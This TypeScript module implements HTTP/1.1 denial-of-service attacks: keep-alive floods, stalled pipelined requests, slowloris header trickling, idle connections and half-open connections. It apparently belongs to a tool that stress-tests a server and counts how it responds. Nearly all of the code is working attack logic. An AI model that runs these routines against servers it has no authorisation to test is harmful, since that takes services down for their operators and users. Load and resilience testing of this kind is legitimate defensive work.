/**
 * HTTP/1.1 attacks, on either port:
 *   flood      N keep-alive connections, each with one GET always in flight (a new one as soon
 *              as the last answer is read); counts answers by status, timeouts and errors;
 *   stalled    connections that send `pipelined` GETs and never read a byte (socket paused);
 *   slowloris  connections that send a request line, then one header line every few seconds,
 *              never ending the headers;
 *   idle       connections that send nothing;
 *   half-open  connections that send part of a request, then shut their write side (FIN).
 * Each holds one socket of the budget per connection (attack-common.ts).
 */
import http from 'node:http';
import { holdLoops, rawConnection, sleep, type AttackContext } from './attack-common.js';

/** A flood request without an answer after this long is given up (counted as `timeouts`). */
export const FLOOD_REQUEST_TIMEOUT_MS = 10_000;
/** Slowloris: one more header line this often. */
export const SLOWLORIS_LINE_MS = 2000;

/** One GET on the flood's agent; resolves once answered and read, or failed. */
function floodRequest(ctx: AttackContext, name: string, agent: http.Agent, port: number, path: string): Promise<void> {
  return new Promise((resolve) => {
    let settled = false;
    const done = (pauseMs = 0) => {
      if (settled) return;
      settled = true;
      if (pauseMs > 0) void sleep(pauseMs).then(() => resolve());
      else resolve();
    };
    ctx.tally.add(name, 'requests');
    const req = http.get({ agent, host: ctx.host, port, path, timeout: FLOOD_REQUEST_TIMEOUT_MS }, (res) => {
      ctx.tally.add(name, `status_${res.statusCode ?? 0}`);
      res.on('end', () => done());
      res.on('error', () => done(100));
      res.on('close', () => done());
      res.resume();
    });
    req.on('socket', () => {
      if (!req.reusedSocket) ctx.tally.add(name, 'connections');
    });
    req.on('timeout', () => {
      ctx.tally.add(name, 'timeouts');
      req.destroy();
    });
    req.on('error', (err: NodeJS.ErrnoException) => {
      if (!ctx.stopped) ctx.tally.add(name, `error_${err.code ?? 'other'}`);
      done(100); // a refused or reset connection: back off a little before the next one
    });
  });
}

export function flood(ctx: AttackContext, name: string, port: number, path: string, n: number): void {
  if (n <= 0) return;
  const agent = new http.Agent({ keepAlive: true, maxSockets: n, maxFreeSockets: n });
  ctx.track({ destroy: () => agent.destroy() });
  holdLoops(ctx, name, n, async () => {
    while (!ctx.stopped) await floodRequest(ctx, name, agent, port, path);
  });
}

export function stalled(ctx: AttackContext, name: string, port: number, path: string, n: number, pipelined: number): void {
  const request = `GET ${path} HTTP/1.1\r\nHost: ${ctx.host}:${port}\r\n\r\n`.repeat(pipelined);
  holdLoops(ctx, name, n, () =>
    rawConnection(ctx, name, { port, read: false }, (s) => {
      ctx.tally.add(name, 'requests', pipelined);
      s.write(request);
    }),
  );
}

export function slowloris(ctx: AttackContext, name: string, port: number, path: string, n: number): void {
  holdLoops(ctx, name, n, () =>
    rawConnection(ctx, name, { port }, (s) => {
      ctx.tally.add(name, 'requests');
      s.write(`GET ${path} HTTP/1.1\r\nHost: ${ctx.host}:${port}\r\n`);
      let line = 0;
      const timer = setInterval(() => {
        line += 1;
        ctx.tally.add(name, 'header_lines');
        s.write(`X-Slow-${line}: ${line}\r\n`);
      }, SLOWLORIS_LINE_MS);
      s.once('close', () => clearInterval(timer));
    }),
  );
}

export function idle(ctx: AttackContext, name: string, port: number, n: number): void {
  holdLoops(ctx, name, n, () => rawConnection(ctx, name, { port }, () => undefined));
}

export function halfOpen(ctx: AttackContext, name: string, port: number, path: string, n: number): void {
  holdLoops(ctx, name, n, () =>
    rawConnection(ctx, name, { port, allowHalfOpen: true }, (s) => {
      ctx.tally.add(name, 'requests');
      s.end(`GET ${path} HTTP/1.1\r\nHost: ${ctx.host}:${port}\r\n`);
    }),
  );
}
